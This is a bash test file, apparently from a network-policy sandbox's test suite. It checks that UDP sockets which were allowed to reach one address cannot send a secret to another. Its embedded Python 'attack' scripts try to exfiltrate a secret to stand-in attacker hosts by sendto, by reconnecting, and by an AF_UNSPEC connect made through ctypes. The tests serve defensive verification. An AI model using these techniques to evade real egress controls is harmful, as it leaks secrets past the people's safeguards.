# shellcheck shell=bash
# SPDX-License-Identifier: GPL-2.0
# A socket that was allowed once: sent to, or connected to, another address afterwards.

test_another_address_on_a_connected_socket_gets_nothing() {
	attack <<-'END'
	import socket, sys
	import job
	how, good, bad = sys.argv[1:]
	sock = socket.socket(socket.AF_INET6 if ":" in good else socket.AF_INET, socket.SOCK_DGRAM)
	sock.settimeout(5)
	sock.connect((good, 9999))
	sock.send(b"innocent")
	sock.recv(100)
	if how == "sendto":
	    sock.sendto(job.SECRET, (bad, 9999))
	elif how == "connect":
	    sock.connect((bad, 9999))
	    sock.send(job.SECRET)
	elif how == "dissolve":
	    # connect() to AF_UNSPEC, which Python cannot say, is a bare system call.
	    import ctypes
	    assert ctypes.CDLL(None).connect(sock.fileno(), b"\0" * 16, 16) == 0
	    sock.sendto(job.SECRET, (bad, 9999))
	END
	local how good bad
	policy_feed
	while read -r how good bad; do
		new_secret
		echo "# row: $how $good $bad"
		MAY_ARRIVE="> (198.51.100.70|2001:db8:a:64::1).9999 .*innocent" verdict not-allowed "${ATTACK[@]}" $how $good $bad
	done <<-END
	sendto 198.51.100.70 $EVIL4
	connect 198.51.100.70 $EVIL4
	dissolve 198.51.100.70 $EVIL4
	sendto 2001:db8:a:64::1 $EVIL6
	connect 2001:db8:a:64::1 $EVIL6
	sendto ::ffff:198.51.100.70 ::ffff:$EVIL4
	connect ::ffff:198.51.100.70 ::ffff:$EVIL4
	END
}

# With IP_PKTINFO or a bound source port nothing changes: the destination is judged, each time.
test_every_datagram_of_a_socket_is_judged() {
	attack <<-'END'
	import socket
	import job
	sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
	sock.bind(("192.0.2.2", 5353))
	for _ in range(50):
	    sock.sendto(b"innocent", ("198.51.100.70", 9999))
	    sock.sendto(job.SECRET, ("203.0.113.66", 9999))
	END
	policy_feed
	MAY_ARRIVE="> 198.51.100.70.9999 .*innocent" verdict not-allowed "${ATTACK[@]}"
}
